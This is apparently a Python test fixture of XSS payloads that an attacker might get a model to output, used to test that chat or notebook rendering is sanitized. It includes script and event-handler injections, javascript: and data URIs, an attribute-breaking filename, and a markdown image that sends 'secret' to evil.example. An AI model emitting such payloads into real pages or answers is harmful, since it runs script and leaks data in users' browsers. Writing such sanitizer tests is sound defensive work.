"""What an attacker would make a model answer, for the tests of rendering (in the kernel and in the browser)."""

from __future__ import annotations

# Every one sets window.__pwned in a front end that runs it.
PAYLOADS = [
    '<img src=x onerror="window.__pwned=1">',
    "<script>window.__pwned=2</script>",
    '<a href="javascript:window.__pwned=3">click</a>',
    "<svg onload=window.__pwned=4></svg>",
    "[link](javascript:window.__pwned=5)",
    "[data link](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD02PC9zY3JpcHQ+)",
    "![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9d2luZG93Ll9fcHduZWQ9Nz48L3N2Zz4=)",
    '<iframe src="javascript:window.__pwned=8"></iframe><style>body{background:url(https://evil.example/)}</style>',
    '<div style="background:url(javascript:window.__pwned=9)">styled</div>',
    "![x](https://evil.example/?q=secret)",
]
HOSTILE = "Here you go:\n\n" + "\n\n".join(PAYLOADS)
HOSTILE_STEM = '"><img src=x onerror=window.__pwned=10>'  # breaks out of an attribute and of text
HOSTILE_NAME = HOSTILE_STEM + ".png"
HOSTILE_URLS = [
    "javascript:window.__pwned=11",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xMjwvc2NyaXB0Pg==",
    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9d2luZG93Ll9fcHduZWQ9MTM+PC9zdmc+",
    " JaVaScRiPt:window.__pwned=14",
    "/api/kernels",
]
